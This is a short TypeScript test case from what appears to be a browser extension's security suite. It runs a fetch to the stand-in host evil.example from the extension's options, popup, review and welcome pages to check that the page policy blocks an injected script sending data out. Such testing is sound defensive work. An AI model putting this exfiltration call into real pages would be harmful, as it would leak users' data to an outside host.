import type { Attack } from './attack.ts';

/** A script injected into one of our pages tries to send data out. */
export const pagePolicy: Attack = {
  name: 'a request to a host from the settings or the popup',
  build: 'store',
  run: async ({ own, asked }) => {
    for (const path of ['options.html', 'popup.html', 'review.html', 'welcome.html'])
      await (await own(path)).evaluate(() => fetch('https://evil.example/carry').catch(() => undefined));
    const isAsked = asked().some((host) => host.startsWith('evil.example'));
    return {
      held: !isAsked,
      seen: isAsked ? 'let through by the page’s policy' : 'stopped by the page’s policy',
    };
  },
};
